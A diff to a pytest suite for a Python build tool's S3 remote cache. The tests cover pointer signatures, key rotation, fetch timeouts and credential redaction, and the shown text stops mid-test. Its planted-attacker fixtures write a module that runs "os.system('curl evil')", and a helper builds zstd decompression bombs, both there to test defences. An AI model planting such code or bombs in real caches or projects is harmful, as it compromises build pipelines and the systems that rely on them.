@@ -8,15 +8,19 @@ access real 403s. The end-to-end tests run ``cdk-native-python build`` and ``cdk
 
 from __future__ import annotations
 
+import base64
 import contextlib
 import hashlib
 import io
 import json
 import os
+import re
 import shutil
 import socket
 import subprocess
 import sys
+import tarfile
+import tempfile
 import threading
 import time
 import zipfile
@@ -28,9 +32,10 @@ import pytest
 
 from cdk_native_python.errors import ConfigurationError
 from cdk_native_python.reporter import Reporter, silent
-from cdk_native_python.store import REMOTE_URL_ENV, REMOTE_WRITE_ENV, archive, remote
+from cdk_native_python.store import REMOTE_URL_ENV, REMOTE_WRITE_ENV, archive, remote, signing
 from cdk_native_python.store.local import open_store
-from cdk_native_python.store.remote import Pointer, RemoteCache, RemoteConfig
+from cdk_native_python.store.remote import TIMEOUT_ENV, Pointer, RemoteCache, RemoteConfig
+from cdk_native_python.store.signing import TRUSTED_KEYS_ENV, KeyMaterial, PublicKey
 from tests.cdkhelpers import CDK, needs_cdk
 from tests.helpers import ROOT, closed_port, write_function
 from tests.s3server import ADMIN, READER, WRITER, S3Server, client_env
@@ -63,8 +68,18 @@ def as_writer(s3_server: S3Server, use_aws: Callable[[dict[str, str]], None]) ->
     use_aws(s3_server.env(WRITER))
 
 
-def cache(bucket: str, *, write: bool = False, reporter: Reporter | None = None, client: Any = None) -> RemoteCache:
-    return RemoteCache(RemoteConfig(f"s3://{bucket}/{PREFIX}", write), reporter or silent(), client=client)
+def cache(bucket: str, *, write: bool = False, reporter: Reporter | None = None, client: Any = None,
+          trusted: tuple[PublicKey, ...] = (), key: KeyMaterial | None = None) -> RemoteCache:
+    return RemoteCache(RemoteConfig(f"s3://{bucket}/{PREFIX}", write, trusted, key), reporter or silent(),
+                       client=client)
+
+
+def new_key(name: str = "$TEST_SIGNING_KEY") -> tuple[KeyMaterial, PublicKey]:
+    """A fresh Ed25519 signing key (as a writer reads it) and its public half (as readers list it)."""
+    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
+
+    material = KeyMaterial(Ed25519PrivateKey.generate().private_bytes_raw(), name)
+    return material, material.signer().public
 
 
 def plant(server: S3Server, bucket: str, kind: str, key: str, blob: bytes, fmt: str = archive.ZSTD) -> str:
@@ -73,7 +88,8 @@ def plant(server: S3Server, bucket: str, kind: str, key: str, blob: bytes, fmt: 
     rc = cache(bucket)
     digest = hashlib.sha256(blob).hexdigest()
     admin.put_object(Bucket=bucket, Key=rc.content_key(digest), Body=blob)
-    admin.put_object(Bucket=bucket, Key=rc.pointer_key(kind, key), Body=Pointer(digest, len(blob), fmt).to_bytes())
+    admin.put_object(Bucket=bucket, Key=rc.pointer_key(kind, key),
+                     Body=Pointer(kind, key, digest, len(blob), fmt).to_bytes())
     return rc.content_key(digest)
 
 
@@ -148,8 +164,9 @@ def test_importing_the_module_loads_neither_boto3_nor_zstandard(tmp_path: Path) 
     code = ("import sys, cdk_native_python.store.remote as r; from cdk_native_python.store import REMOTE_URL_ENV; "
             "from pathlib import Path; from cdk_native_python.store.local import open_store; "
             "r.RemoteConfig.from_env({REMOTE_URL_ENV: 's3://bucket'}); "
-            f"open_store(Path({str(tmp_path / 'cache')!r}), remote_url='s3://bucket/team'); "
-            "heavy = ('boto3', 'botocore', 's3transfer', 'zstandard'); "
+            f"open_store(Path({str(tmp_path / 'cache')!r}), remote_url='s3://bucket/team', "
+            "trusted_keys=['ed25519:' + 'A' * 43 + '=']); "
+            "heavy = ('boto3', 'botocore', 's3transfer', 'zstandard', 'cryptography'); "
             "print(sorted(m for m in sys.modules if m.split('.')[0] in heavy))")
     out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True, cwd=ROOT)
     assert out.stdout.strip() == "[]"
@@ -288,8 +305,8 @@ def test_one_warning_per_kind_of_failure_per_process(s3_server: S3Server, s3_buc
 
 @pytest.mark.usefixtures("as_writer")
 @pytest.mark.parametrize("body", [b"not json", b'{"schema": "other"}', b"[]",
-                                  b'{"schema": "cdk-native-python/remote-pointer/1", "digest": "sha256:../../x", '
-                                  b'"size": 10, "format": "tar+zstd"}'])
+                                  b'{"schema": "cdk-native-python/remote-pointer/2", "digest": "sha256:../../x", '
+                                  b'"size": 10, "format": "tar+zstd", "kind": "locks", "key": "k", "tool": ""}'])
 def test_a_garbage_pointer_is_a_miss_with_a_warning(s3_server: S3Server, s3_bucket: str, tmp_path: Path,
                                                     body: bytes) -> None:
     s3_server.client(ADMIN).put_object(Bucket=s3_bucket, Key=f"{PREFIX}/v1/ac/locks/k.json", Body=body)
@@ -506,8 +523,8 @@ class _AfterCheck(RemoteCache):
 
     barrier: threading.Barrier
 
-    def _read_pointer(self, client: Any, pointer_key: str) -> Pointer | None:
-        found = super()._read_pointer(client, pointer_key)
+    def _read_pointer(self, client: Any, pointer_key: str, deadline: float | None = None) -> Pointer | None:
+        found = super()._read_pointer(client, pointer_key, deadline)
         self.barrier.wait(timeout=30)
         return found
 
@@ -584,13 +601,383 @@ def test_a_late_writer_gets_412_and_counts_it_as_success(s3_server: S3Server, s3
     (other / "tree" / "extra.txt").write_text("different bytes\n")
     late = _AfterCheck(RemoteConfig(f"s3://{s3_bucket}/{PREFIX}", write=True), silent())
     late.barrier = threading.Barrier(1)
-    late._read_pointer = lambda client, key: None  # type: ignore[method-assign]  # it looked before the winner wrote
+    late._read_pointer = lambda client, key, deadline=None: None  # type: ignore[method-assign]  # it looked before the winner wrote
     late.push("trees", "k1", other)
     assert late.reporter.notices == []
     after = s3_server.keys(s3_bucket)
     pointer_key = f"{PREFIX}/v1/ac/trees/k1.json"
     assert after[pointer_key] == first[pointer_key], "the first writer's pointer stays"
     assert len(after) == 3  # its content was uploaded (another digest) but nothing points at it
+
+
+# -- signatures and binding ------------------------------------------------------------------------------------
+
+def pointer_doc(server: S3Server, bucket: str, kind: str, key: str) -> dict[str, Any]:
+    doc: dict[str, Any] = json.loads(server.keys(bucket)[f"{PREFIX}/v1/ac/{kind}/{key}.json"])
+    return doc
+
+
+def put_pointer(server: S3Server, bucket: str, kind: str, key: str, doc: dict[str, Any]) -> None:
+    server.client(ADMIN).put_object(Bucket=bucket, Key=f"{PREFIX}/v1/ac/{kind}/{key}.json",
+                                    Body=json.dumps(doc).encode())
+
+
+def evil_blob(tree_entry: Path) -> bytes:
+    """The honest entry plus a module of the attacker's: what a bucket writer would plant."""
+    with tempfile.TemporaryDirectory() as tmp:
+        evil = Path(tmp) / "e"
+        shutil.copytree(tree_entry, evil)
+        (evil / "tree" / "evil.py").write_text("import os; os.system('curl evil')\n")
+        out = io.BytesIO()
+        archive.pack(evil, out)
+        return out.getvalue()
+
+
+@pytest.mark.usefixtures("as_writer")
+def test_a_signed_entry_round_trips_and_its_pointer_is_bound(s3_server: S3Server, s3_bucket: str, tree_entry: Path,
+                                                            tmp_path: Path) -> None:
+    key, public = new_key()
+    writer = silent()
+    cache(s3_bucket, write=True, reporter=writer, trusted=(public,), key=key).push("trees", "k1", tree_entry)
+    assert writer.notices == []
+    doc = pointer_doc(s3_server, s3_bucket, "trees", "k1")
+    assert (doc["kind"], doc["key"], doc["signer"]) == ("trees", "k1", public.id)
+    assert len(public.id) == 16 and len(base64.b64decode(doc["signature"])) == 64
+    reader = silent()
+    dest = empty_dir(tmp_path / "dest")
+    assert cache(s3_bucket, reporter=reader, trusted=(public,)).fetch("trees", "k1", dest) is True
+    assert reader.notices == [] and snapshot(dest) == normalised(snapshot(tree_entry))
+
+
+@pytest.mark.usefixtures("as_writer")
+@pytest.mark.parametrize("signed", [True, False])
+def test_without_trusted_keys_signed_and_unsigned_entries_are_read(s3_server: S3Server, s3_bucket: str,
+                                                                   tree_entry: Path, tmp_path: Path,
+                                                                   signed: bool) -> None:
+    key, _ = new_key()
+    cache(s3_bucket, write=True, key=key if signed else None).push("trees", "k1", tree_entry)
+    assert ("signature" in pointer_doc(s3_server, s3_bucket, "trees", "k1")) is signed
+    reader = silent()
+    assert cache(s3_bucket, reporter=reader).fetch("trees", "k1", empty_dir(tmp_path / "dest")) is True
+    assert reader.notices == []
+
+
+@pytest.mark.usefixtures("as_writer")
+@pytest.mark.parametrize("case", ["unsigned", "signed-by-an-untrusted-key", "other-digest-same-signature",
+                                  "other-size-same-signature", "signature-of-another-pointer", "garbage-signature",
+                                  "unknown-signer-id"])
+def test_with_trusted_keys_an_entry_not_signed_by_them_is_a_miss(s3_server: S3Server, s3_bucket: str,
+                                                                 tree_entry: Path, tmp_path: Path, case: str) -> None:
+    """A bucket writer without the key: whatever it writes, the reader ignores it (one warning naming the entry),
+    extracts nothing and builds on."""
+    key, public = new_key()
+    stranger, _ = new_key("$STRANGER")
+    cache(s3_bucket, write=True, key=key).push("trees", "other", tree_entry)
+    honest = pointer_doc(s3_server, s3_bucket, "trees", "other")
+    blob = evil_blob(tree_entry)
+    content_key = plant(s3_server, s3_bucket, "trees", "k1", blob)  # unsigned, at its true digest
+    doc = pointer_doc(s3_server, s3_bucket, "trees", "k1")
+    if case == "signed-by-an-untrusted-key":
+        cache(s3_bucket, write=True, key=stranger).push("trees", "k2", tree_entry)
+        doc = {**pointer_doc(s3_server, s3_bucket, "trees", "k2"), "key": "k1"}
+        doc = json.loads(Pointer.parse(json.dumps(doc).encode(), "x").signed(stranger.signer()).to_bytes())
+    elif case in ("other-digest-same-signature", "other-size-same-signature"):
+        # the honest pointer's signature, its key renamed and its digest (or size) swapped for the planted one
+        field = "digest" if case == "other-digest-same-signature" else "size"
+        doc = {**honest, "key": "k1", field: doc[field]}
+    elif case == "signature-of-another-pointer":
+        doc = {**doc, "signer": honest["signer"], "signature": honest["signature"]}
+    elif case == "garbage-signature":
+        doc = {**doc, "signer": public.id, "signature": base64.b64encode(b"\0" * 64).decode()}
+    elif case == "unknown-signer-id":
+        doc = {**doc, "signer": "0123456789abcdef", "signature": honest["signature"]}
+    put_pointer(s3_server, s3_bucket, "trees", "k1", doc)
+    reporter = silent()
+    dest = empty_dir(tmp_path / "area" / "dest")
+    assert cache(s3_bucket, reporter=reporter, trusted=(public,)).fetch("trees", "k1", dest) is False
+    assert codes(reporter) == ["remote-cache-untrusted"], reporter.notices
+    message = reporter.warnings[0].message
+    assert f"{PREFIX}/v1/ac/trees/k1.json" in message and "building locally" in message
+    assert sorted(os.listdir(tmp_path / "area")) == ["dest"] and not any(dest.iterdir())
+    assert content_key  # the planted content stays where it is: only ever read through a trusted pointer
+
+
+@pytest.mark.usefixtures("as_writer")
+@pytest.mark.parametrize("trusted", [True, False], ids=["with-keys", "without-keys"])
+def test_a_pointer_copied_under_another_key_is_a_miss(s3_server: S3Server, s3_bucket: str, tree_entry: Path,
+                                                      tmp_path: Path, trusted: bool) -> None:
+    key, public = new_key()
+    cache(s3_bucket, write=True, key=key).push("trees", "k1", tree_entry)
+    objects = s3_server.keys(s3_bucket)
+    s3_server.client(ADMIN).put_object(Bucket=s3_bucket, Key=f"{PREFIX}/v1/ac/trees/k2.json",
+                                       Body=objects[f"{PREFIX}/v1/ac/trees/k1.json"])
+    reporter = silent()
+    dest = empty_dir(tmp_path / "dest")
+    keys = (public,) if trusted else ()
+    assert cache(s3_bucket, reporter=reporter, trusted=keys).fetch("trees", "k2", dest) is False
+    assert codes(reporter) == ["remote-cache-unbound"]
+    assert "was written for trees/k1, not for trees/k2" in reporter.warnings[0].message
+    assert not any(dest.iterdir())
+    # the same pointer under its own key still works; and under another kind too it is refused
+    assert cache(s3_bucket, trusted=keys).fetch("trees", "k1", empty_dir(tmp_path / "own")) is True
+    s3_server.client(ADMIN).put_object(Bucket=s3_bucket, Key=f"{PREFIX}/v1/ac/wheels/k1.json",
+                                       Body=objects[f"{PREFIX}/v1/ac/trees/k1.json"])
+    assert cache(s3_bucket, trusted=keys).fetch("wheels", "k1", empty_dir(tmp_path / "kind")) is False
+
+
+@pytest.mark.usefixtures("as_writer")
+def test_a_copied_pointer_with_its_key_rewritten_fails_its_signature(s3_server: S3Server, s3_bucket: str,
+                                                                     tree_entry: Path, tmp_path: Path) -> None:
+    """Editing the recorded key to match the new name: accepted without trusted keys (the bucket writer decides
+    what readers ship, as docs/remote-cache.md says), refused with them (the signature covers the key)."""
+    key, public = new_key()
+    cache(s3_bucket, write=True, key=key).push("trees", "k1", tree_entry)
+    put_pointer(s3_server, s3_bucket, "trees", "k2", {**pointer_doc(s3_server, s3_bucket, "trees", "k1"), "key": "k2"})
+    assert cache(s3_bucket).fetch("trees", "k2", empty_dir(tmp_path / "open")) is True
+    reporter = silent()
+    assert cache(s3_bucket, reporter=reporter, trusted=(public,)).fetch("trees", "k2", empty_dir(tmp_path / "d")) \
+        is False
+    assert codes(reporter) == ["remote-cache-untrusted"] and "does not match its fields" in reporter.warnings[0].message
+
+
+@pytest.mark.usefixtures("as_writer")
+def test_key_rotation_several_trusted_keys(s3_server: S3Server, s3_bucket: str, tree_entry: Path,
+                                           tmp_path: Path) -> None:
+    """Old and new keys both trusted: entries of either are read. The old key removed: its entries are misses."""
+    old, old_public = new_key()
+    new, new_public = new_key()
+    cache(s3_bucket, write=True, key=old, trusted=(old_public,)).push("trees", "by-old", tree_entry)
+    cache(s3_bucket, write=True, key=new, trusted=(old_public, new_public)).push("trees", "by-new", tree_entry)
+    both = silent()
+    for name in ("by-old", "by-new"):
+        assert cache(s3_bucket, reporter=both, trusted=(old_public, new_public)).fetch(
+            "trees", name, empty_dir(tmp_path / f"both-{name}")) is True
+    assert both.notices == []
+    after = silent()
+    assert cache(s3_bucket, reporter=after, trusted=(new_public,)).fetch(
+        "trees", "by-new", empty_dir(tmp_path / "new")) is True
+    assert cache(s3_bucket, reporter=after, trusted=(new_public,)).fetch(
+        "trees", "by-old", empty_dir(tmp_path / "old")) is False
+    assert codes(after) == ["remote-cache-untrusted"]
+    assert f"signed by key {old_public.id}, which is not a trusted key" in after.warnings[0].message
+
+
+@pytest.mark.usefixtures("as_writer")
+def test_a_writer_that_finds_a_planted_pointer_says_so(s3_server: S3Server, s3_bucket: str, tree_entry: Path,
+                                                       tmp_path: Path) -> None:
+    """Create-only writes keep a planted pointer: trusted CI cannot replace it, and warns that it blocks the key."""
+    key, public = new_key()
+    plant(s3_server, s3_bucket, "trees", "k1", evil_blob(tree_entry))
+    before = s3_server.keys(s3_bucket)
+    reporter = silent()
+    cache(s3_bucket, write=True, reporter=reporter, key=key, trusted=(public,)).push("trees", "k1", tree_entry)
+    assert codes(reporter) == ["remote-cache-untrusted"] and "not signed" in reporter.warnings[0].message
+    assert "delete" in reporter.warnings[0].message
+    assert s3_server.keys(s3_bucket) == before
+
+
+@pytest.mark.usefixtures("as_writer")
+def test_a_pointer_of_an_earlier_version_is_unbound(s3_server: S3Server, s3_bucket: str, tmp_path: Path) -> None:
+    """Schema /1 pointers (before pointers recorded their key) are misses with a warning, never trusted."""
+    digest = hashlib.sha256(b"x").hexdigest()
+    put_pointer(s3_server, s3_bucket, "wheels", "k1", {"schema": "cdk-native-python/remote-pointer/1", "size": 1,
+                                                       "digest": f"sha256:{digest}", "format": "tar+zstd"})
+    reporter = silent()
+    assert cache(s3_bucket, reporter=reporter).fetch("wheels", "k1", empty_dir(tmp_path / "d")) is False
+    assert codes(reporter) == ["remote-cache-unbound"] and "earlier cdk-native-python" in reporter.warnings[0].message
+
+
+def test_a_writer_without_a_key_while_keys_are_required_is_an_error(tmp_path: Path,
+                                                                    monkeypatch: pytest.MonkeyPatch) -> None:
+    _, public = new_key()
+    for name in (signing.SIGNING_KEY_ENV, signing.SIGNING_KEY_FILE_ENV, REMOTE_URL_ENV, REMOTE_WRITE_ENV):
+        monkeypatch.delenv(name, raising=False)
+    monkeypatch.setenv(TRUSTED_KEYS_ENV, public.line)
+    with pytest.raises(ConfigurationError) as err:
+        open_store(tmp_path / "cache", remote_url="s3://bucket/team", remote_write=True)
+    assert err.value.code == "remote-signing-key-missing"
+    assert signing.SIGNING_KEY_ENV in (err.value.hint or "") and "\n" not in err.value.message
+    # a reader needs no key; a writer whose key is not among the trusted ones is told before it uploads
+    assert open_store(tmp_path / "cache", remote_url="s3://bucket/team").remote is not None
+    stranger, _ = new_key()
+    monkeypatch.setenv(signing.SIGNING_KEY_ENV, base64.b64encode(stranger.data).decode())
+    store = open_store(tmp_path / "cache", remote_url="s3://bucket/team", remote_write=True)
+    assert store.remote is not None
+    with pytest.raises(ConfigurationError) as untrusted:
+        store.remote.push("trees", "k", tmp_path)
+    assert untrusted.value.code == "remote-signing-key-untrusted" and signing.SIGNING_KEY_ENV in untrusted.value.message
+
+
+# -- limits ------------------------------------------------------------------------------------------------------
+
+class _Trickler:
+    """A server that pretends to be S3 for GetObject: it answers the pointer (or the content) with its headers
+    and then one byte at a time, every ``interval`` seconds, so a per-read timeout never fires."""
+
+    def __init__(self, pointer: bytes, content: bytes, slow: str, interval: float = 0.25) -> None:
+        import http.server
+
+        self.stop = threading.Event()
+        outer = self
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            protocol_version = "HTTP/1.1"
+
+            def do_GET(self) -> None:
+                body = pointer if self.path.endswith(".json") else content
+                self.send_response(200)
+                self.send_header("Content-Length", str(len(body)))
+                self.send_header("Content-Type", "application/octet-stream")
+                self.end_headers()
+                trickle = (slow == "pointer") == self.path.endswith(".json")
+                try:
+                    if not trickle:
+                        self.wfile.write(body)
+                        return
+                    for i in range(len(body)):
+                        self.wfile.write(body[i:i + 1])
+                        self.wfile.flush()
+                        if outer.stop.wait(interval):
+                            return
+                except OSError:
+                    return  # the client hung up: as it should at its deadline
+
+            def log_message(self, *args: Any) -> None:
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.server.daemon_threads = True
+        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
+        self.thread.start()
+
+    @property
+    def url(self) -> str:
+        return f"http://127.0.0.1:{self.server.server_address[1]}"
+
+    def close(self) -> None:
+        self.stop.set()
+        self.server.shutdown()
+        self.server.server_close()
+
+
+@pytest.mark.parametrize("slow", ["content", "pointer"])
+def test_a_trickling_server_is_cut_off_at_the_deadline(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+                                                       use_aws: Callable[[dict[str, str]], None],
+                                                       tree_entry: Path, slow: str) -> None:
+    """One byte every 0.25 s never trips a per-read timeout; the 1 s deadline of the whole fetch ends it."""
+    content = io.BytesIO()
+    archive.pack(tree_entry, content)
+    blob = content.getvalue()[:40] if slow == "content" else content.getvalue()
+    digest = hashlib.sha256(blob).hexdigest()
+    pointer = Pointer("trees", "k", digest, len(blob), archive.ZSTD).to_bytes()
+    server = _Trickler(pointer, blob, slow)
+    try:
+        use_aws(client_env(f"http://user:pw-in-the-endpoint@{server.url.removeprefix('http://')}", READER))
+        remote.reset_process_state()
+        monkeypatch.setenv(TIMEOUT_ENV, "1")
+        monkeypatch.setenv(REMOTE_URL_ENV, "s3://some-bucket/team/cache")
+        config = RemoteConfig.from_env()
+        assert config is not None and config.timeout == 1.0
+        remote._default_client()  # made beforehand: only the fetch is timed
+        reporter = silent()
+        dest = empty_dir(tmp_path / "area" / "dest")
+        start = time.perf_counter()
+        assert RemoteCache(config, reporter).fetch("trees", "k", dest) is False
+        elapsed = time.perf_counter() - start
+        assert elapsed < 2.5, f"the deadline of 1 s held the fetch {elapsed:.2f} s"
+        assert codes(reporter) == ["remote-cache-timeout"], reporter.notices
+        message = reporter.warnings[0].message
+        assert "took longer than 1 s" in message and TIMEOUT_ENV in message and "building locally" in message
+        assert "pw-in-the-endpoint" not in message
+        assert sorted(os.listdir(tmp_path / "area")) == ["dest"] and not any(dest.iterdir())
+        # the remote is not tried again in this process: each entry would cost the deadline again
+        start = time.perf_counter()
+        assert RemoteCache(config, reporter).fetch("trees", "k", empty_dir(tmp_path / "again")) is False
+        assert time.perf_counter() - start < 0.05
+    finally:
+        server.close()
+
+
+def test_a_bad_timeout_is_an_error_naming_the_variable() -> None:
+    for bad in ("soon", "0", "-5"):
+        with pytest.raises(ConfigurationError) as err:
+            RemoteConfig.from_env({REMOTE_URL_ENV: "s3://bucket", TIMEOUT_ENV: bad})
+        assert err.value.code == "remote-cache-timeout-value" and TIMEOUT_ENV in err.value.message
+    config = RemoteConfig.from_env({REMOTE_URL_ENV: "s3://bucket"})
+    assert config is not None and config.timeout == remote.DEFAULT_TIMEOUT == 120
+
+
+def zstd_bomb(members: list[tuple[tarfile.TarInfo, int]]) -> bytes:
+    """A tar+zstd stream of ``members``, each followed by that many zero bytes, compressed as it is made."""
+    import zstandard
+
+    out = io.BytesIO()
+    with zstandard.ZstdCompressor(level=3).stream_writer(out, closefd=False) as zw:
+        for info, size in members:
+            zw.write(info.tobuf(tarfile.PAX_FORMAT))
+            zero = b"\0" * (1 << 20)
+            left = size + (-size % 512)
+            while left:
+                zw.write(zero[:min(left, len(zero))])
+                left -= min(left, len(zero))
+        zw.write(b"\0" * 1024)
+    return out.getvalue()
+
+
+@pytest.mark.usefixtures("as_writer")
+@pytest.mark.parametrize("case", ["one-huge-file", "huge-pax-header"])
+def test_a_zstd_bomb_is_refused_while_it_streams(s3_server: S3Server, s3_bucket: str, tmp_path: Path,
+                                                 case: str) -> None:
+    """A small object that unpacks to more than a Lambda can hold: refused at the cap, nothing written."""
+    size = archive.MAX_UNPACKED_BYTES + (16 << 20)
+    if case == "one-huge-file":
+        info = tarfile.TarInfo("tree/zeros.bin")
+        info.size = size
+    else:  # a PAX header tarfile would read into memory whole
+        info = tarfile.TarInfo("././@PaxHeader")
+        info.type, info.size = tarfile.XHDTYPE, size
+    blob = zstd_bomb([(info, size)])
+    assert len(blob) < 100_000
+    plant(s3_server, s3_bucket, "trees", "bomb", blob)
+    reporter = silent()
+    dest = empty_dir(tmp_path / "area" / "dest")
+    assert cache(s3_bucket, reporter=reporter).fetch("trees", "bomb", dest) is False
+    assert codes(reporter) == ["remote-cache-corrupt"]
+    assert f"unpacks to more than {archive.MAX_MEMBERS} entries or 288,358,400 bytes" in reporter.warnings[0].message
+    assert sorted(os.listdir(tmp_path / "area")) == ["dest"] and not any(dest.iterdir())
+
+
+def test_the_unpacked_cap_is_lambdas_limit_plus_ten_percent() -> None:
+    assert archive.MAX_UNPACKED_BYTES == 288_358_400 == 262_144_000 * 11 // 10
+
+
+@pytest.mark.parametrize("endpoint", ["http://ci-user:endpoint-pw-123@127.0.0.1:{port}",
+                                      "http://ci-user:endpoint-pw-123@bad_host:{port}x"], ids=["down", "malformed"])
+def test_endpoint_credentials_never_reach_a_warning(tmp_path: Path, use_aws: Callable[[dict[str, str]], None],
+                                                    endpoint: str) -> None:
+    """``http://user:password@host`` in AWS_ENDPOINT_URL_S3: no warning holds it, whatever fails (botocore's own
+    message of a malformed endpoint quotes it whole)."""
+    use_aws(client_env(endpoint.format(port=closed_port()), READER))
+    remote.reset_process_state()
+    reporter = silent()
+    assert cache("some-bucket", reporter=reporter).fetch("trees", "k", empty_dir(tmp_path / "d")) is False
+    (warning,) = reporter.warnings
+    assert "s3://some-bucket" in warning.message
+    assert "endpoint-pw-123" not in warning.message and "ci-user" not in warning.message, warning.message
+
+
+def test_endpoint_credentials_never_reach_the_terminal_or_the_report(tmp_path: Path, wheel_index: WheelIndex,
+                                                                    s3_server: S3Server) -> None:
+    bad = "http://ci-user:endpoint-pw-123@bad_host:x"
+    src = project(tmp_path, "purepkg\n")
+    env = env_for(s3_server, READER, tmp_path / "cache", AWS_ENDPOINT_URL=bad, AWS_ENDPOINT_URL_S3=bad)
+    done = build(src, tmp_path / "a.zip", wheel_index.url, env, "--remote-cache", "s3://nobody-home/x")
+    assert done.returncode == 0, done.stderr
+    assert "remote cache s3://nobody-home/x" in done.stderr
+    assert "endpoint-pw-123" not in done.stderr and "ci-user" not in done.stderr
+    text = Path(f"{tmp_path / 'a.zip'}.json").read_text()
+    assert "nobody-home" in text, "the warning is in the report"
+    assert "endpoint-pw-123" not in text and "ci-user" not in text
 
 
 def env_for(server: S3Server, credentials: tuple[str, str], cache: Path, **extra: str) -> dict[str, str]:
@@ -766,7 +1153,10 @@ def test_cdk_synth_on_a_fresh_machine_uses_the_remote(tmp_path: Path, wheel_inde
         "NativePythonFunction(stack, 'Fn', entry='fn', runtime=lambda_.Runtime.PYTHON_3_12,\n"
         "    architecture=lambda_.Architecture.ARM_64,\n"
         "    bundling=BundlingOptions(index_url=os.environ['INDEX']))\napp.synth()\n")
-    (app / "cdk.json").write_text(json.dumps({"app": f"{sys.executable} app.py"}))
+    key, public = new_key()
+    # the team's trust travels with the repository: the public key in cdk.json's context
+    (app / "cdk.json").write_text(json.dumps({"app": f"{sys.executable} app.py", "context": {
+        "cdk-native-python": {"remoteCacheTrustedKeys": [public.line]}}}))
     url = f"s3://{s3_bucket}/{E2E_PREFIX}"
 
     def synth(cache: Path, index: str, **extra: str) -> subprocess.CompletedProcess[str]:
@@ -776,11 +1166,87 @@ def test_cdk_synth_on_a_fresh_machine_uses_the_remote(tmp_path: Path, wheel_inde
                               cwd=app, env=env, capture_output=True, text=True, timeout=600, check=False)
 
     index = own_index(tmp_path, wheel_index)
-    ci = synth(tmp_path / "ci" / "cache", index.url, CDK_NATIVE_PYTHON_REMOTE_CACHE_WRITE="1")
+    unsigned = synth(tmp_path / "unsigned" / "cache", index.url, CDK_NATIVE_PYTHON_REMOTE_CACHE_WRITE="1")
+    assert unsigned.returncode != 0 and "Traceback" not in unsigned.stderr, unsigned.stderr[-3000:]
+    assert "no signing key is set" in unsigned.stderr and objects(s3_server, s3_bucket) == {}
+    ci = synth(tmp_path / "ci" / "cache", index.url, CDK_NATIVE_PYTHON_REMOTE_CACHE_WRITE="1",
+               CDK_NATIVE_PYTHON_REMOTE_CACHE_SIGNING_KEY=base64.b64encode(key.data).decode())
     index.close()
     assert ci.returncode == 0, ci.stderr[-3000:]
+    assert all(json.loads(v)["signer"] == public.id for k, v in objects(s3_server, s3_bucket).items() if "/ac/" in k)
     laptop = synth(tmp_path / "laptop" / "cache", index.url)
     assert laptop.returncode == 0, laptop.stderr[-3000:]
     assert "resolve cached, install cached" in laptop.stderr
     assets = [sorted(p.name for p in (tmp_path / m / "out").glob("asset.*")) for m in ("ci", "laptop")]
     assert assets[0] == assets[1] and assets[0]
+
+
+# -- signing, end to end -------------------------------------------------------------------------------------------
+
+def test_signed_ci_and_a_trusting_fresh_machine(tmp_path: Path, wheel_index: WheelIndex, s3_server: S3Server,
+                                                s3_bucket: str) -> None:
+    """CI signs with a key file made by `cache keygen`; a laptop trusting that key (environment variable)
+    builds from the remote. A writer given the trusted key but not the private key stops before building."""
+    src = project(tmp_path)
+    url = f"s3://{s3_bucket}/{E2E_PREFIX}"
+    key_file = tmp_path / "ci-key.pem"
+    made = subprocess.run([sys.executable, "-m", "cdk_native_python.cli", "cache", "keygen", str(key_file)],
+                          capture_output=True, text=True, check=True)
+    line = re.search(r'"(ed25519:[A-Za-z0-9+/=]+)"', made.stdout).group(1)  # type: ignore[union-attr]
+    no_key = build(src, tmp_path / "nokey.zip", wheel_index.url, env_for(s3_server, WRITER, tmp_path / "cache-0"),
+                   "--remote-cache", url, "--remote-cache-write", "--remote-cache-trusted-key", line)
+    assert no_key.returncode == 2
+    assert no_key.stderr.count("error:") == 1 and "no signing key is set" in no_key.stderr, no_key.stderr
+    assert "Traceback" not in no_key.stderr and not (tmp_path / "nokey.zip").exists()
+    assert objects(s3_server, s3_bucket) == {}, "nothing uploaded"
+    index = own_index(tmp_path, wheel_index)
+    a = build(src, tmp_path / "a.zip", index.url,
+              env_for(s3_server, WRITER, tmp_path / "cache-a", CDK_NATIVE_PYTHON_REMOTE_CACHE_SIGNING_KEY_FILE=str(
+                  key_file)), "--remote-cache", url, "--remote-cache-write", "--remote-cache-trusted-key", line)
+    index.close()
+    assert a.returncode == 0, a.stderr
+    pointers = [json.loads(v) for k, v in objects(s3_server, s3_bucket).items() if "/ac/" in k]
+    assert len(pointers) == 2 and all(p["signer"] == PublicKey.parse(line, "t").id for p in pointers)
+    assert all("; uv " in p["tool"] for p in pointers), "the pointer records our version and uv's"
+    b = build(src, tmp_path / "b.zip", index.url, env_for(s3_server, READER, tmp_path / "cache-b",
+                                                         CDK_NATIVE_PYTHON_REMOTE_CACHE=url,
+                                                         **{TRUSTED_KEYS_ENV: line}))
+    assert b.returncode == 0, b.stderr
+    assert "warning" not in b.stderr
+    assert report(tmp_path / "b.zip")["cache"] == {"resolve": "hit", "install": "hit"}
+    assert (tmp_path / "a.zip").read_bytes() == (tmp_path / "b.zip").read_bytes()
+    assert key_file.read_text() not in a.stderr + b.stderr
+
+
+@pytest.mark.parametrize("trusted", [True, False], ids=["with-keys", "without-keys"])
+def test_a_future_key_plant(tmp_path: Path, wheel_index: WheelIndex, s3_server: S3Server, s3_bucket: str,
+                            monkeypatch: pytest.MonkeyPatch, trusted: bool) -> None:
+    """A bucket writer plants a tree under a key nobody built yet (it can compute it: the same lock, the same
+    tool versions). With trusted keys the reader ignores it and ships the honest bundle; without, it ships the
+    planted tree: the trust model of docs/remote-cache.md, where a bucket writer decides what readers ship."""
+    src = project(tmp_path, "purepkg\n")
+    url = f"s3://{s3_bucket}/{E2E_PREFIX}"
+    honest = build(src, tmp_path / "honest.zip", wheel_index.url, env_for(s3_server, WRITER, tmp_path / "cache-h"))
+    assert honest.returncode == 0, honest.stderr
+    (tree,) = (tmp_path / "cache-h" / "trees").iterdir()
+    evil = tmp_path / "evil-entry"
+    shutil.copytree(tree, evil, ignore=shutil.ignore_patterns("manifest.json"))
+    for p in evil.rglob("*"):
+        p.chmod(0o755 if p.is_dir() else 0o644)
+    (evil / "tree" / "evil.py").write_text("import os; os.system('curl evil')\n")
+    for name, value in s3_server.env(WRITER).items():
+        monkeypatch.setenv(name, value)
